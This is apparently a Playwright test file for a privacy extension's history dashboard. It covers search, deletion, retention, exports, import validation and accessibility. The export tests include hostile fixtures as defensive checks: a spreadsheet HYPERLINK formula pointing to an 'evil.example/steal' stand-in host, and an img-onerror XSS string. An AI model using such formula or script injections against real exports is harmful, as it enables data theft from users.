// The dashboard on a seeded history: search and sort, per-site detail, delete a site, wipe, retention,
// private windows, exports (the HTML escapes hostile page text), import (a malformed file is refused
// with a clear error and nothing is lost), 10,000 sites, and axe checks in light and dark.
import AxeBuilder from '@axe-core/playwright';
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import type { Launched } from '../../src/cli/launch';
import type { SiteRow } from '../../src/storage/db';
import { HOSTILE, OLD_SITE, historyFixture } from '../fixtures/history';
import { expect, test } from './fixtures';
import { seedHistory, tableRows } from './seed';

async function dashboard(ext: Launched, route = 'sites', extra = 0): Promise<{ page: Page; h: ReturnType<typeof historyFixture> }> {
  const h = historyFixture(Date.now(), extra);
  await seedHistory(ext, h);
  const page = await ext.context.newPage();
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.goto(`chrome-extension://${ext.extensionId}/dashboard.html#${route}`);
  return { page, h };
}

async function axe(page: Page) {
  const r = await new AxeBuilder({ page }).analyze();
  expect(r.passes.length).toBeGreaterThan(10);
  return r.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
}

async function save(page: Page, group: string, name: string) {
  const d = page.waitForEvent('download');
  await page.getByRole('group', { name: group }).getByRole('button', { name }).click();
  const dl = await d;
  return { file: dl.suggestedFilename(), text: readFileSync((await dl.path())!, 'utf8') };
}

const siteNames = (page: Page) => page.locator('.site-row').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.site));

test('every site is listed, searchable and sortable', async ({ ext }) => {
  const { page, h } = await dashboard(ext);
  const n = h.sites.length;
  await expect(page.getByTestId('site-count')).toHaveText(`${n} of ${n} sites`);
  await page.getByLabel('Search sites').fill('news');
  await expect(page.getByTestId('site-count')).toHaveText(`1 of ${n} sites`);
  expect(await siteNames(page)).toEqual(['dailynews.example']);
  await page.getByLabel('Search sites').fill('');

  await page.getByRole('button', { name: 'Site' }).click();
  await expect(page.getByRole('columnheader', { name: 'Site' })).toHaveAttribute('aria-sort', 'ascending');
  const byName = await siteNames(page);
  expect(byName).toEqual([...byName].sort());
  expect(byName[0]).toBe('bank-compare.example');

  await page.getByRole('button', { name: 'Visits' }).click();
  await expect(page.getByRole('columnheader', { name: 'Visits' })).toHaveAttribute('aria-sort', 'descending');
  const most = [...h.sites].sort((a, b) => b.visits - a.visits || a.site.localeCompare(b.site))[0]!;
  expect((await siteNames(page))[0]).toBe(most.site);
  await page.getByRole('button', { name: 'Visits' }).click();
  await expect(page.getByRole('columnheader', { name: 'Visits' })).toHaveAttribute('aria-sort', 'ascending');
});

test('10,000 sites: only the rows in view are rendered, search finds any of them', async ({ ext }) => {
  test.setTimeout(180_000); // seeding 10,000 sites into IndexedDB takes a while on a small machine
  const { page, h } = await dashboard(ext, 'sites', 10_000);
  const n = h.sites.length;
  await expect(page.getByTestId('site-count')).toHaveText(`${n} of ${n} sites`, { timeout: 30000 });
  expect(await page.locator('.site-row').count()).toBeLessThan(60);
  await page.getByRole('button', { name: 'Site' }).click();
  await page.locator('.vbody').evaluate((el) => (el.scrollTop = el.scrollHeight));
  await expect(page.locator('.site-row[data-site="site-09999.example"]')).toBeVisible();
  await page.getByLabel('Search sites').fill('site-04321');
  expect(await siteNames(page)).toEqual(['site-04321.example']);
});

test('a site in detail: the report at full size and its visit history; deleting it removes it everywhere', async ({ ext }) => {
  const { page, h } = await dashboard(ext);
  const site = [...h.sites].sort((a, b) => b.visits - a.visits)[0]!;
  await page.getByRole('link', { name: site.site, exact: true }).click();
  await expect(page.getByRole('heading', { level: 2, name: site.site })).toBeVisible();
  await expect(page.locator('.report.full .principle-body')).toHaveCount(6);
  await expect(page.locator('.visits .visit')).toHaveCount(site.visits);
  await page.locator('.visits .visit').last().click();
  await expect(page.locator('.visits .visit').last()).toHaveAttribute('aria-pressed', 'true');

  await page.getByRole('button', { name: 'Delete this site' }).click();
  await page.getByRole('button', { name: 'Yes, delete' }).click();
  await expect(page.getByTestId('notice')).toHaveText(`${site.site} was deleted.`);
  await expect(page.getByTestId('site-count')).toHaveText(`${h.sites.length - 1} of ${h.sites.length - 1} sites`);
  expect((await tableRows<SiteRow>(ext, 'sites')).map((s) => s.site)).not.toContain(site.site);
  expect((await tableRows<{ site: string }>(ext, 'findings')).filter((f) => f.site === site.site)).toEqual([]);
});

test('companies across sites and trends over time', async ({ ext }) => {
  const { page, h } = await dashboard(ext, 'companies');
  const googleSites = new Set(h.findings.filter((f) => f.company === 'Google').map((f) => f.site)).size;
  const pct = Math.round((googleSites / h.sites.length) * 100);
  await expect(page.locator('.reach li').first()).toContainText(`Google saw you on ${pct}% of sites`);
  await expect(page.locator('table.matrix tbody tr')).toHaveCount(15);
  // the hostile company name is shown as text, never run
  await expect(page.locator('.reach li', { hasText: HOSTILE.vendor })).toHaveCount(1);
  expect(await page.title()).not.toBe('pwned');

  await page.getByRole('link', { name: 'Trends' }).click();
  await expect(page.locator('canvas[role="img"]')).toBeVisible();
  await page.getByText('Show the numbers').click();
  const pages = await page.locator('.trend-table tbody td:nth-child(2)').allTextContents();
  expect(pages).toHaveLength(30);
  const recent = h.visits.filter((v) => v.startedAt >= Date.now() - 29 * 86_400_000).length;
  expect(pages.reduce((a, x) => a + Number(x), 0)).toBeGreaterThanOrEqual(recent - 2);
});

test('exports of the whole history: JSON, CSV and an HTML report that escapes hostile page text', async ({ ext }) => {
  const { page, h } = await dashboard(ext, 'data');
  const json = await save(page, 'Export everything', 'Export JSON');
  const reports = JSON.parse(json.text) as { site: string; schemaVersion: number }[];
  expect(reports).toHaveLength(h.visits.length);
  expect(reports.every((r) => r.schemaVersion === 1)).toBe(true);

  const csv = await save(page, 'Export everything', 'Export CSV');
  const rows = csv.text.trimEnd().split('\r\n');
  expect(rows.length - 1).toBe(h.findings.length);
  expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/steal"",""Click me"")"`);

  const html = await save(page, 'Export everything', 'Export HTML report');
  expect(html.text).not.toContain(HOSTILE.vendor);
  expect(html.text).not.toContain('<script');
  expect(html.text).not.toContain('<img');
  expect(html.text).toContain('&#60;img src=x onerror=');
  const viewer = await ext.context.newPage();
  await viewer.setContent(html.text);
  expect(await viewer.title()).toBe('Candor: your history');
  await expect(viewer.locator('.site-report')).toHaveCount(h.visits.length);
});

test('import: a malformed file is refused with a clear error and nothing is lost; a good one comes back', async ({ ext }) => {
  const { page, h } = await dashboard(ext, 'data');
  const json = await save(page, 'Export everything', 'Export JSON');
  const good = JSON.parse(json.text);
  const bad = [...good, { ...good[0], principles: 'broken' }];
  await page.getByLabel('Import reports from a JSON file').setInputFiles({ name: 'bad.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(bad)) });
  await expect(page.getByRole('alert')).toHaveText(/Import failed: Report \d+ is not a Candor site report \(at principles\).*Nothing was imported\./);
  // a crafted finding whose details the wording would trip over: refused, naming where
  const crafted = [{ ...good[0], findings: [{ ...good[0].findings[0], kind: 'tracking-before-consent', details: { trackers: [null] } }] }];
  await page.getByLabel('Import reports from a JSON file').setInputFiles({ name: 'crafted.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(crafted)) });
  await expect(page.getByRole('alert')).toHaveText(/Import failed: This file is not a Candor site report \(finding 1, tracking-before-consent, details\.trackers\.0.*Nothing was imported\./);
  await page.getByLabel('Import reports from a JSON file').setInputFiles({ name: 'x.json', mimeType: 'application/json', buffer: Buffer.from('{"oops":') });
  await expect(page.getByRole('alert')).toHaveText('Import failed: This file is not valid JSON: it may be truncated or not a Candor export.');
  await expect(page.getByTestId('data-summary')).toHaveText(`Candor holds ${h.sites.length} sites and ${h.visits.length} visits.`);
  expect(await tableRows(ext, 'findings')).toHaveLength(h.findings.length);

  await page.getByRole('button', { name: 'Delete all history' }).click();
  await page.getByRole('button', { name: 'Yes, delete' }).click();
  await expect(page.getByTestId('data-summary')).toHaveText('Candor holds 0 sites and 0 visits.');
  await page.getByLabel('Import reports from a JSON file').setInputFiles({ name: 'good.json', mimeType: 'application/json', buffer: Buffer.from(json.text) });
  await expect(page.getByTestId('import-result')).toHaveText(`Imported ${h.visits.length} reports.`);
  await expect(page.getByTestId('data-summary')).toHaveText(`Candor holds ${h.sites.length} sites and ${h.visits.length} visits.`);
  // the same file again changes nothing: no visit counted twice
  const counts = async () => (await tableRows<SiteRow>(ext, 'sites')).map((s) => `${s.site}:${s.visits}`).sort();
  // an imported visit's findings are its report row's (one row per visit)
  const findingCount = async () => (await tableRows<{ findings: unknown[] }>(ext, 'reports')).reduce((n, r) => n + r.findings.length, 0);
  const once = await counts();
  const findingsOnce = await findingCount();
  expect(findingsOnce).toBeGreaterThan(0);
  await page.getByLabel('Import reports from a JSON file').setInputFiles({ name: 'good-again.json', mimeType: 'application/json', buffer: Buffer.from(json.text) });
  await expect(page.getByTestId('import-result')).toHaveText(`Imported ${h.visits.length} reports.`);
  await expect(page.getByTestId('data-summary')).toHaveText(`Candor holds ${h.sites.length} sites and ${h.visits.length} visits.`);
  expect(await counts()).toEqual(once);
  expect(await findingCount()).toBe(findingsOnce);
});

test('wipe, retention and private windows', async ({ ext }) => {
  const { page, h } = await dashboard(ext, 'data');
  await expect(page.getByLabel('Keep history for')).toHaveValue('90');
  await expect(page.getByLabel('Observe pages in private windows')).not.toBeChecked();
  await page.getByLabel('Observe pages in private windows').check();
  await expect.poll(async () => (await tableRows<{ key: string; value: unknown }>(ext, 'settings')).find((s) => s.key === 'privateWindows')?.value).toBe(true);

  await page.getByLabel('Keep history for').selectOption('30');
  await expect(page.getByTestId('notice')).toHaveText(/Deleted \d+ visits older than 30 days\./);
  const sites = (await tableRows<SiteRow>(ext, 'sites')).map((s) => s.site);
  expect(sites).not.toContain(OLD_SITE);
  expect(sites).toContain('dailynews.example');
  expect((await tableRows<{ key: string; value: unknown }>(ext, 'settings')).find((s) => s.key === 'retentionDays')?.value).toBe(30);

  await page.getByRole('button', { name: 'Delete all history' }).click();
  await page.getByRole('button', { name: 'Cancel' }).click();
  expect((await tableRows(ext, 'sites')).length).toBe(h.sites.length - 1);
  await page.getByRole('button', { name: 'Delete all history' }).click();
  await page.getByRole('button', { name: 'Yes, delete' }).click();
  await expect(page.getByTestId('notice')).toHaveText('All history was deleted.');
  expect([(await tableRows(ext, 'sites')).length, (await tableRows(ext, 'visits')).length, (await tableRows(ext, 'findings')).length]).toEqual([0, 0, 0]);
  await page.getByRole('link', { name: 'Sites' }).click();
  await expect(page.getByText('No sites yet.')).toBeVisible();
});

test('axe finds no accessibility violations on any dashboard view, light and dark', async ({ ext }) => {
  test.setTimeout(180_000); // ten full axe runs
  const { page, h } = await dashboard(ext);
  const site = h.sites[0]!.site;
  for (const scheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme: scheme });
    for (const route of ['sites', 'companies', 'trends', 'data', `site/${encodeURIComponent(site)}`]) {
      await page.goto(`chrome-extension://${ext.extensionId}/dashboard.html#${route}`);
      await expect(page.locator('main h2').first()).toBeVisible();
      expect(await axe(page), `${route}, ${scheme}`).toEqual([]);
    }
  }
});

test('in a German browser the dashboard and popup chrome speak German', async ({ server }) => {
  const { launchWithExtension } = await import('../../src/cli/launch');
  const { EXT_DIR } = await import('./fixtures');
  const de = await launchWithExtension({ extensionDir: EXT_DIR, hostResolverRules: server.hostResolverRules, insecure: true, extraArgs: ['--lang=de'] });
  try {
    await seedHistory(de, historyFixture(Date.now()));
    const page = await de.context.newPage();
    await page.goto(`chrome-extension://${de.extensionId}/dashboard.html#sites`);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Candor: Ihr Verlauf');
    await expect(page.getByLabel('Websites durchsuchen')).toBeVisible();
    await page.goto(`chrome-extension://${de.extensionId}/popup.html?tabId=999999`);
    await expect(page.getByRole('heading', { name: 'Candor kann diese Seite nicht sehen' })).toBeVisible();
    expect(await page.evaluate(() => document.documentElement.lang)).toMatch(/^de/);
  } finally {
    await de.close();
  }
});
